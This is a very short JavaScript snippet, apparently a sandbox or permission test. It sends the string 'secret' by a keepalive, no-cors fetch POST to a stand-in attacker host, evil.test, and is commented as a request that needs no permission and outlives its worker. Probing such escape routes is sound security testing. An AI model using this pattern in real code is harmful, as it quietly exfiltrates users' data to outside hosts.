// A POST that needs no permission and outlives its worker.

await fetch('http://evil.test/x', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true });
return 'WENT';
